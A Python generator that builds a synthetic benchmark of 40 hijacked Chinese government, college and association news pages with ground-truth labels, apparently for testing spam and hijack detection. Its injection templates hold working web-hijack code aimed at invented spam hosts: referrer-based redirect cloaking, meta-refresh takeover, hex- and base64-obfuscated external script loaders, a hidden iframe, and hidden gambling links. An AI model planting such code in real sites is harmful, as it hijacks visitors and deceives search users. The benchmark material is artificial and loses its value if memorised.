# -*- coding: utf-8 -*-
"""Build bench/data/dev/synthetic-v51/ (40 pages; dev since 2026-12-08, when v51 was spent; held out in
bench/data/heldout/ from 2026-12-07, when v50 was spent; pending-v51/ at collection) with a fixed seed; a re-run is
byte-identical.

    /usr/bin/python3 make_set.py [OUT_DIR]      (default: ../synthetic-v51 beside this folder)

build() returns (pages, blocks): pages = [(id, bytes, truth)], blocks = {id: [injected block strings]}
(the validator uses the blocks for the no-shared-code check).
"""
import base64
import json
import os
import random
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import articles as A  # noqa: E402
import templates as T  # noqa: E402

SEED = 5120251

# ---------------------------------------------------------------- hosts, sites, chrome

SITES = [
    # key, template, host, site name, owner, path pattern, column, source pool
    dict(key="SA", tpl="K1", host="www.lanjiangxian.gov.cn", name="岚江县人民政府", place="岚江县",
         owner="岚江县人民政府办公室", owner2="岚江县大数据发展中心", col="部门动态", kind="gov",
         srcs=["岚江县农业农村局", "岚江县融媒体中心", "岚江县应急管理局", "岚江县人力资源和社会保障局"]),
    dict(key="SB", tpl="K2", host="czj.quchuan.gov.cn", name="渠川市财政局", place="渠川市",
         owner="渠川市财政局", col="财政资金", kind="gov", srcs=["渠川市财政局"],
         topics=["procure", "budget", "subsidy", "directfund"]),
    dict(key="SC", tpl="K3", host="news.yxut.edu.cn", name="沅溪理工大学", place="沅溪理工大学",
         owner="沅溪理工大学", col="综合新闻", kind="edu",
         srcs=["党委宣传部", "科学技术研究院", "学生工作部", "图书馆", "材料学院"]),
    dict(key="SD", tpl="K4", host="www.fgpt.edu.cn", name="枫港职业技术学院", place="枫港职业技术学院",
         owner="枫港职业技术学院", col="校园动态", kind="edu",
         srcs=["招生就业处", "学生处", "教务处", "智能制造学院", "团委"]),
]

SINGLES = [
    dict(tpl="K1", host="www.tangxixian.gov.cn", name="棠溪县人民政府", place="棠溪县", kind="gov",
         owner="棠溪县人民政府办公室", owner2="棠溪县政务服务中心", col="乡镇动态", srcs=["棠溪县水利局"]),
    dict(tpl="K1", host="www.ruolingxian.gov.cn", name="箬岭县人民政府", place="箬岭县", kind="gov",
         owner="箬岭县人民政府办公室", owner2="箬岭县融媒体中心", col="政务要闻", srcs=["箬岭县住房和城乡建设局"]),
    dict(tpl="K2", host="rsj.binyushi.gov.cn", name="滨峪市人力资源和社会保障局", place="滨峪市", kind="gov",
         owner="滨峪市人力资源和社会保障局", col="就业创业", srcs=["滨峪市人力资源和社会保障局"], topics=["jobfair"]),
    dict(tpl="K2", host="jyj.lipingshi.gov.cn", name="漓坪市教育局", place="漓坪市", kind="gov",
         owner="漓坪市教育局", col="教育招生", srcs=["漓坪市教育局"], topics=["enroll"]),
    dict(tpl="K3", host="news.cmhxy.edu.cn", name="苍湄学院", place="苍湄学院", kind="edu",
         owner="苍湄学院", col="校园要闻", srcs=["实验室与设备管理处"]),
    dict(tpl="K3", host="www.hssfxy.edu.cn", name="洹水师范学院", place="洹水师范学院", kind="edu",
         owner="洹水师范学院", col="学术动态", srcs=["图书馆"]),
    dict(tpl="K4", host="www.mhzyxy.edu.cn", name="岷海职业学院", place="岷海职业学院", kind="edu",
         owner="岷海职业学院", col="学院新闻", srcs=["学生处"]),
    dict(tpl="K4", host="www.jzwszy.edu.cn", name="橘洲卫生职业学院", place="橘洲卫生职业学院", kind="edu",
         owner="橘洲卫生职业学院", col="教学科研", srcs=["招生就业处"]),
    dict(tpl="K5", host="www.shidaizhen.gov.cn", name="石埭镇人民政府", place="石埭镇", kind="gov",
         owner="石埭镇人民政府", col="镇村动态", srcs=["石埭镇文化服务中心"]),
    dict(tpl="K5", host="ztx.qianhuxian.gov.cn", name="柘塘乡人民政府", place="柘塘乡", kind="gov",
         owner="柘塘乡人民政府", col="工作动态", srcs=["柘塘乡林业站"]),
    dict(tpl="K5", host="qyjd.songtaoqu.gov.cn", name="青峪街道办事处", place="青峪街道", kind="gov",
         owner="松桃区青峪街道办事处", col="街道动态", srcs=["青峪街道社会保障服务中心"]),
    dict(tpl="K5", host="www.luyuzhen.gov.cn", name="鹭屿镇人民政府", place="鹭屿镇", kind="gov",
         owner="鹭屿镇人民政府", col="图片新闻", srcs=["鹭屿镇农业农村办公室"]),
    dict(tpl="K5", host="www.heshanxiang.gov.cn", name="禾山乡人民政府", place="禾山乡", kind="gov",
         owner="禾山乡人民政府", col="乡村振兴", srcs=["禾山乡应急管理办公室"]),
    dict(tpl="K5", host="www.yunxizhen.gov.cn", name="筠溪镇人民政府", place="筠溪镇", kind="gov",
         owner="筠溪镇人民政府", col="平安建设", srcs=["筠溪派出所"]),
    dict(tpl="K6", host="www.qhnxh.org.cn", name="沁湖省农学会", place="沁湖省农学会", kind="org",
         en="QINHU AGRICULTURAL SOCIETY", owner="沁湖省农学会", srcs=["学会秘书处"]),
    dict(tpl="K6", host="www.lzsxh.org.cn", name="澧州市水利学会", place="澧州市水利学会", kind="org",
         en="LIZHOU HYDRAULIC ENGINEERING SOCIETY", owner="澧州市水利学会", srcs=["学术工作部"]),
    dict(tpl="K6", host="www.jhjzxh.org.cn", name="荆衡市建筑业协会", place="荆衡市建筑业协会", kind="org",
         en="JINGHENG CONSTRUCTION INDUSTRY ASSOCIATION", owner="荆衡市建筑业协会", srcs=["协会办公室"]),
    dict(tpl="K6", host="www.wsgxh.org.cn", name="皖山市营养学会", place="皖山市营养学会", kind="org",
         en="WANSHAN NUTRITION SOCIETY", owner="皖山市营养学会", srcs=["科普工作委员会"]),
    dict(tpl="K6", host="www.xyjxxh.org.cn", name="西屿市机械工程学会", place="西屿市机械工程学会", kind="org",
         en="XIYU MECHANICAL ENGINEERING SOCIETY", owner="西屿市机械工程学会", srcs=["学会秘书处"]),
    dict(tpl="K6", host="www.clrjxh.org.cn", name="沧岚市软件行业协会", place="沧岚市软件行业协会", kind="org",
         en="CANGLAN SOFTWARE INDUSTRY ASSOCIATION", owner="沧岚市软件行业协会", srcs=["协会秘书处"]),
]

# ---------------------------------------------------------------- invented brands and spam hosts
# Stems checked by validate_v51s.py against every spam string of the compared splits (either way).
BR = {
    "SA": ("榧岚", "feilan6618.com"), "SB": ("芃澈", "pengche-pt.com"), "SC": (None, "m.yyx3702.cc"),
    "SD": ("韫川", "lt79vip.net"),
    0: ("筠澈", "yunche-app.com"), 1: ("棠樾", "tangyue58.com"), 2: ("漪川", "yc9157.vip"),
    3: (None, "ljx-edu.xyz"), 4: ("筱澜", "xiaolan-sports.com"), 5: ("霞蔚", "xw0771.top"),
    6: ("珩玥", "hengyue-ty.com"), 7: (None, "jz-cdn.icu"), 8: ("蘅蕪", "hengwu888.com"),
    9: ("翎霄", "lingxiao-cp.com"), 10: ("琮霁", "congji365.net"), 11: (None, "tk-cnzz.cc"),
    12: ("瑾澄", "jincheng-qp.com"), 13: ("璇玑", "xuanji-tv.com"), 14: ("莳萝", "shiluo-ty.com"),
    15: (None, "static-bd.top"), 16: ("黛屿", "daiyu55.com"), 17: ("绛霄", "jiangxiao-game.com"),
}


def hidden_links(style, host, texts, rng):
    a = "".join('<a href="https://%s/%s%02d/">%s</a>' % (host, host[:3], i + 1, t) for i, t in enumerate(texts))
    return '<div style="%s">%s</div>' % (style, a)


def injection(key, pg, rng):
    """-> (inj slots, forms, spam_strings, source_spam, author_spam, blocks, marker, target)."""
    b, host = BR[key]
    inj, spam, blocks = {}, [], []
    marker = target = None
    src_spam = au_spam = False
    if key == "SA":  # title suffix + off-screen link block before the footer text
        suf = "%s官方网站" % b
        inj["title"] = "%s_%s_%s" % (pg["title"], suf, pg["site_name"])
        texts = ["%s体育投注" % b, "%s真人荷官" % b, "%s电子游艺官网" % b, "%s手机版下载" % b]
        blk = hidden_links("position:absolute;left:-6800px;top:0;width:1px;overflow:hidden", host, texts, rng)
        inj["footer"] = blk
        forms, spam, blocks = ["spam-title-suffix", "offscreen-link-block-footer"], [suf] + texts, [blk]
    elif key == "SB":  # 信息公开 keyword row + tech-support credit in the footer
        kw = "%s娱乐平台 %s棋牌注册" % (b, b)
        inj["gk_kw"] = kw
        cr = "%s网络科技提供技术支持" % b
        inj["footer"] = '<p class="support">技术支持：<a href="https://www.%s/" target="_blank">%s</a></p>' % (host, cr)
        forms, spam = ["xxgk-keyword-row", "support-credit-footer"], [kw, cr]
        blocks = [inj["footer"]]
    elif key == "SC":  # search-referrer cloak in <head> (code only)
        js = ("<script>(function(){var r=(document.referrer||'').toLowerCase(),se=['baidu.com','sogou.com','so.com',"
              "'sm.cn','bing.com'];for(var i=0;i<se.length;i++){if(r.indexOf(se[i])>-1){window.location.replace("
              "'https://%s/?ch=yx'+Math.floor(Math.random()*90+10));return;}}})();</script>" % host)
        inj["head"] = js
        forms, blocks, marker, target = ["search-referrer-redirect-cloak"], [js], "(document.referrer||'').toLowerCase()", host
    elif key == "SD":  # keyword line at the top of the body (visible)
        line = "%s影院免费看片 %s彩票注册即领38元 %s国际官网" % (b, b, b)
        blk = '<div class="topnews" style="font-size:12px;color:#888;text-align:center">%s</div>' % line
        inj["body_top"] = blk
        forms, spam, blocks = ["porn-gambling-keyword-line-top"], [line], [blk]
    elif key == 0:  # stuffed <title> + meta keywords
        t = "%s体育_%s官网入口_%s app下载_%s" % (b, b, b, pg["site_name"])
        inj["title"] = t
        inj["head"] = '<meta name="keywords" content="%s体育,%s官网入口,%s app下载" />' % (b, b, b)
        forms, spam = ["keyword-stuffed-title", "stuffed-meta-keywords"], ["%s体育_%s官网入口_%s app下载" % (b, b, b)]
        blocks = [inj["head"]]
    elif key == 1:  # header site name replaced
        s = "%s娱乐城（中国）官方网站" % b
        inj["site_name"] = s
        forms, spam = ["header-name-spam"], [s]
    elif key == 2:  # 发布机构 in the 信息公开 table
        s = "%s国际娱乐" % b
        inj["gk_org"] = s
        forms, spam, src_spam = ["spam-publisher-xxgk"], [s], True
    elif key == 3:  # meta refresh takeover (code only)
        m = '<meta http-equiv="refresh" content="0; url=https://www.%s/go/?s=%d">' % (host, rng.randint(1000, 9999))
        inj["head"] = m
        forms, blocks, marker, target = ["meta-refresh-takeover"], [m], 'http-equiv="refresh"', "www." + host
    elif key == 4:  # 作者 in byline
        s = "%s体育官方" % b
        inj["author"] = s
        forms, spam, au_spam = ["spam-author-byline"], [s], True
    elif key == 5:  # zero-size span spliced into paragraph 2
        s = "%s真人视讯平台" % b
        sp = '<span style="font-size:0;line-height:0;color:transparent">%s</span>' % s
        inj["splice"] = (1, sp)
        forms, spam, blocks = ["font0-span-in-paragraph"], [s], [sp]
    elif key == 6:  # photo caption credit
        s = "%s体育赞助拍摄" % b
        fig = ('<figure class="pic"><img src="/upload/2025/pic%d.jpg" alt="" width="600">'
               '<figcaption>图片来源：%s</figcaption></figure>' % (rng.randint(100, 999), s))
        inj["figure"] = fig
        forms, spam, blocks = ["photo-credit-spam"], [s], [fig]
    elif key == 7:  # unescape/document.write of a hidden link in the footer (code only)
        payload = '<div style="display:none"><a href="https://%s/r/">.</a><script src="https://%s/s.js"></script></div>' % (host, host)
        enc = "".join("%%%02x" % ord(c) for c in payload)
        js = "<script type=\"text/javascript\">document.write(unescape('%s'));</script>" % enc
        inj["footer"] = js
        forms, blocks, marker, target = ["hex-unescape-docwrite-loader"], [js], "document.write(unescape('%3c%64%69%76", host
    elif key == 8:  # traditional-Chinese spam paragraph inside the body
        s = "%s娛樂城：真人視訊、體育投注、電子遊戲一站式平台，新會員註冊即享首存優惠。" % b
        p = "<p>%s</p>" % s
        inj["figure"] = p  # rendered between paragraphs 1 and 2
        forms, spam, blocks = ["traditional-spam-paragraph"], [s], [p]
    elif key == 9:  # 来源 in byline
        s = "%s彩票网" % b
        inj["source"] = s
        forms, spam, src_spam = ["spam-source-byline"], [s], True
    elif key == 10:  # hidden links after </html>
        texts = ["%s体育" % b, "%s棋牌游戏" % b, "%s捕鱼达人" % b]
        blk = hidden_links("display:none", host, texts, rng)
        inj["after_html"] = blk
        forms, spam, blocks = ["after-html-hidden-links"], texts, [blk]
    elif key == 11:  # zero-size iframe at the end of the page (code only)
        fr = '<iframe src="https://%s/t/%s" width="0" height="0" frameborder="0" style="display:none"></iframe>' % (
            host, "".join(rng.choice("abcdefghijkmnpqrstuvwxyz0123456789") for _ in range(6)))
        inj["footer"] = fr
        forms, blocks, marker, target = ["zero-size-iframe"], [fr], 'width="0" height="0" frameborder="0"', host
    elif key == 12:  # sold links among the 相关链接 (friend links)
        texts = ["%s棋牌" % b, "%s真人视讯厅" % b]
        fr = "".join('<a href="https://www.%s/?f=%d" target="_blank">%s</a>' % (host, i + 1, t) for i, t in enumerate(texts))
        inj["friend"] = fr
        forms, spam, blocks = ["sold-links-in-related-links"], texts, [fr]
    elif key == 13:  # document.title rewritten by a script at the end of the body
        s = "%s影视_%s在线观看" % (b, b)
        js = '<script>document.title="%s";</script>' % s
        inj["footer"] = js
        forms, spam, blocks = ["js-title-override"], [s], [js]
    elif key == 14:  # brand credit as the article's last line
        s = "（本文由%s体育独家冠名发布）" % b
        p = '<p class="credit" style="text-align:right">%s</p>' % s
        inj["art_end"] = p
        forms, spam, blocks = ["brand-credit-end"], [s], [p]
    elif key == 15:  # atob loader appending an external script (code only)
        url = "https://%s/c/%d.js" % (host, rng.randint(10, 99))
        b64 = base64.b64encode(url.encode()).decode()
        js = ("<script>(function(){var u=atob('%s'),e=document.createElement('script');e.src=u;e.async=true;"
              "(document.head||document.body).appendChild(e);})();</script>" % b64)
        inj["head"] = js
        forms, blocks, marker, target = ["base64-atob-script-loader"], [js], "atob('" + b64[:12], host
    elif key == 16:  # sold items in the 相关推荐 list
        texts = ["%s游戏官方平台" % b, "%s电竞竞猜入口" % b]
        li = "".join('<li><a href="https://%s/%d.html">%s</a></li>' % (host, i + 7, t) for i, t in enumerate(texts))
        inj["side"] = li
        forms, spam, blocks = ["spam-items-in-related-list"], texts, [li]
    elif key == 17:  # bold keyword line as the first body paragraph
        s = "%s棋牌官网：%s棋牌下载" % (b, b)
        p = "<p><strong>%s</strong></p>" % s
        inj["first_para"] = p
        forms, spam, blocks = ["spam-line-first-paragraph"], [s], [p]
    inj = {k: v for k, v in inj.items() if v is not None}
    return inj, forms, spam, src_spam, au_spam, blocks, marker, target


# ---------------------------------------------------------------- articles

def person(rng):
    return rng.choice(A.SURNAMES) + rng.choice(A.GIVEN)


def fill(seed, place, rng, day=None):
    title, paras = seed
    v = dict(p=place, a=rng.randint(3, 28), b=rng.randint(120, 980), c=rng.randint(12, 96), d=rng.randint(2, 9),
             e=rng.randint(300, 420))
    if day is not None:  # "{d}日" in a lead: the event day, on or before the publication day
        v["d"] = max(1, day - rng.randint(0, 2))
    return title.format(**v), [x.format(**v) for x in paras]


def make_pages():
    rng = random.Random(SEED)
    fixed = {"procure", "budget", "subsidy", "jobfair", "enroll"}
    pool = {"gov": [t for t in A.GOV if t not in fixed], "edu": list(A.EDU), "org": list(A.ORG)}
    for k in pool:
        rng.shuffle(pool[k])
    pages = []
    # sites: 5 pages each; hijacked 3/3/2/2; legit clean page on SA, SB, SC
    plan = {"SA": (3, "lottery_fitness"), "SB": (3, "lottery_fund"), "SC": (2, "antigamble_class"), "SD": (2, None)}
    icp_n = 0
    for s in SITES:
        nh, legit = plan[s["key"]]
        kind = s["kind"]
        if "topics" in s:
            topics = s["topics"]
        else:
            topics = pool[kind][:5 - (1 if legit else 0)]
            pool[kind] = pool[kind][5 - (1 if legit else 0):]
        allg = dict(A.GOV, **A.FINANCE)
        seeds = [(t, (allg if kind == "gov" else A.EDU)[t], False) for t in topics]
        if legit:
            seeds.append((legit, (A.GOV_LEGIT if kind == "gov" else A.EDU_LEGIT)[legit], True))
        rng.shuffle(seeds)
        # hijacked pages are never the legit one
        order = [x for x in seeds if not x[2]]
        hij = set(t for t, _, _ in order[:nh])
        icp_n += 1
        chrome = site_chrome(s, rng, icp_n)
        for t, seed, lg in seeds:
            pages.append(page(s, chrome, seed, lg, s["key"] if t in hij else None, rng, site=s["key"], topic=t))
    # singles: 18 hijacked (keys 0..17 in order), 1 clean legit (K5), 1 clean (K6)
    hk = 0
    for i, s in enumerate(SINGLES):
        icp_n += 1
        chrome = site_chrome(s, rng, icp_n)
        kind = s["kind"]
        if s["host"] == "www.yunxizhen.gov.cn":
            pages.append(page(s, chrome, A.GOV_LEGIT["antigamble_police"], True, None, rng))
            continue
        if s["host"] == "www.clrjxh.org.cn":
            t = pool["org"].pop(0)
            pages.append(page(s, chrome, A.ORG[t], False, None, rng))
            continue
        t = s["topics"][0] if "topics" in s else pool[kind].pop(0)
        src = A.GOV if kind == "gov" else A.EDU if kind == "edu" else A.ORG
        pages.append(page(s, chrome, src[t], False, hk, rng, topic=t))
        hk += 1
    assert hk == 18, hk
    return pages, rng


def site_chrome(s, rng, n):
    tpl = s["tpl"]
    c = dict(site_name=s["name"], owner=s["owner"], owner2=s.get("owner2", s["owner"]), col=s.get("col", "学会动态"),
             icp="%s ICP备%d号-%d" % (rng.choice("湘鄂赣皖闽桂黔滇"), rng.randint(10000000, 29999999), rng.randint(1, 4)),
             ga="%s公网安备 %d号" % (rng.choice("湘鄂赣皖闽桂黔滇"), rng.randint(43000000000000, 53999999999999)),
             wsbs="%d%06d" % (rng.randint(3000, 5300), rng.randint(0, 999999)) if s["kind"] == "gov" else "",
             addr="%s%s路%d号" % (s["place"][:2], rng.choice(["迎宾", "建设", "人民", "学府", "滨江", "文昌"]), rng.randint(1, 300)),
             colbase=rng.randint(1100, 9900), en=s.get("en", ""))
    if tpl == "K1":
        c["nav"] = ["首页", "政务公开", "政务服务", "互动交流", "走进" + s["place"]]
    if tpl in ("K3", "K4"):
        c["navs"] = [("xxyw", "学校要闻"), ("zhxw", "综合新闻"), ("xyfc", "学院风采"), ("mtbd", "媒体报道")]
    if tpl == "K5":
        c["links"] = [("https://www.gov.cn/", "中国政府网"), ("/xxgk/", "政务公开"), ("/bsfw/", "办事服务")]
    c["editor"], c["reviewer"] = person(rng), person(rng)
    return c


def page(s, chrome, seed, legit, hkey, rng, site=None, topic=None):
    y, m, d = rng.choice([2025, 2026]), rng.randint(1, 12), rng.randint(2, 28)
    if y == 2026 and m > 10:
        m -= 6
    title, paras = fill(seed, s["place"], rng, d)
    pg = dict(chrome)
    src = rng.choice(s["srcs"])
    tpl = s["tpl"]
    if tpl == "K1" and topic in A.GOV_DEPT:
        src = s["place"] + A.GOV_DEPT[topic] if rng.random() < 0.75 else s["place"] + "融媒体中心"
    elif tpl in ("K3", "K4") and len(s["srcs"]) > 1 and topic in A.EDU_DEPT:
        src = A.EDU_DEPT[topic]
    author = None
    if tpl in ("K1", "K3", "K4", "K5", "K6") and (rng.random() < 0.7 or hkey == 4):
        author = person(rng)
        if tpl == "K6" and hkey == 4:
            author = person(rng)
    pg.update(title=title, paras=paras, date="%04d-%02d-%02d" % (y, m, d), hm="%02d:%02d" % (rng.randint(8, 18), rng.randint(0, 59)),
              date_cn="%d年%d月%d日" % (y, m, d), date_cn0="%04d年%02d月%02d日" % (y, m, d),
              source=src, author=author, views=rng.randint(40, 3900), photo=person(rng) if rng.random() < 0.4 else None,
              kw="%s；%s" % (s.get("col", ""), s["place"]),
              idx="%s/%04d-%05d" % ("".join(rng.choice("0123456789") for _ in range(9)) + "X", y, rng.randint(1, 99999)),
              related=[], relbase=rng.randint(3000, 9000))
    if tpl in ("K4", "K6"):
        others = list(A.EDU.values()) if tpl == "K4" else list(A.ORG.values())
        pg["related"] = [fill(o, s["place"], rng)[0] for o in rng.sample(others, 3)]
        pg["related"] = [r for r in pg["related"] if r != title][:3]
    if hkey is not None:
        inj, forms, spam, src_spam, au_spam, blocks, marker, target = injection(hkey, pg, rng)
    else:
        inj, forms, spam, src_spam, au_spam, blocks, marker, target = {}, [], [], False, False, [], None, None
    html = T.RENDER[tpl](pg, inj)
    url = make_url(s, tpl, pg, rng)
    truth = dict(url=url, title=title, date=pg["date"], source=None if src_spam else src,
                 author=None if (au_spam or author is None) else author, text="\n".join(paras),
                 hijacked=hkey is not None, injections=forms, spam_strings=spam, legit=legit, lang="zh",
                 origin="", kind="synthetic", site=s["host"], capture="html", encoding=T.ENCODING[tpl],
                 template=T.FAMILY[tpl], marker=marker, target=target)
    where = ("site %s (%s)" % (site, s["host"])) if site else "single page (%s)" % s["host"]
    state = ("hijacked (%s)" % ", ".join(forms)) if hkey is not None else "clean page"
    if legit:
        state += ", legit (lawful lottery/anti-gambling topic)"
    if marker:
        state += "; code only: acts for %s" % ("search-engine referrers" if "referrer" in marker else "every visitor")
    truth["origin"] = "synthetic: %s, template %s, %s" % (where, T.FAMILY[tpl], state)
    if tpl == "K2" and "gk_org" in inj:
        truth["source"] = None
    return (html, truth, blocks)


def make_url(s, tpl, pg, rng):
    y, m, d = pg["date"].split("-")
    n = rng.randint(10000, 99999)
    if tpl == "K1":
        return "https://%s/art/%s/%s/%s/art_%d_%d.html" % (s["host"], y, int(m), int(d), pg["colbase"], n)
    if tpl == "K2":
        return "https://%s/xxgk/fdzdgknr/czzj/%s%s/t%s%s%s_%d.html" % (s["host"], y, m, y, m, d, n)
    if tpl == "K3":
        return "https://%s/info/%d/%d.htm" % (s["host"], rng.randint(1001, 1099), n)
    if tpl == "K4":
        return "https://%s/content.jsp?urltype=news.NewsContentUrl&wbnewsid=%d" % (s["host"], n)
    if tpl == "K5":
        return "https://%s/m/news/%s%s%s/%d.html" % (s["host"], y, m, d, n)
    return "https://%s/news/%s/%d.html" % (s["host"], y, n)


def build():
    raw, rng = make_pages()
    ids = list(range(1, len(raw) + 1))
    rng.shuffle(ids)
    pages, blocks = [], {}
    for (html, truth, blk), n in sorted(zip(raw, ids), key=lambda x: x[1]):
        pid = "sv51-%03d" % n
        t = {"id": pid}
        t.update(truth)
        data = html.encode(truth["encoding"])  # strict: every character must exist in the charset
        pages.append((pid, data, t))
        blocks[pid] = blk
    return pages, blocks


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(here, "..", "synthetic-v51")
    os.makedirs(os.path.join(out, "html"), exist_ok=True)
    pages, _ = build()
    with open(os.path.join(out, "truth.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for pid, data, t in pages:
            with open(os.path.join(out, "html", pid + ".html"), "wb") as h:
                h.write(data)
            f.write(json.dumps(t, ensure_ascii=False) + "\n")
    print("wrote %d pages to %s" % (len(pages), os.path.normpath(out)))


if __name__ == "__main__":
    main()
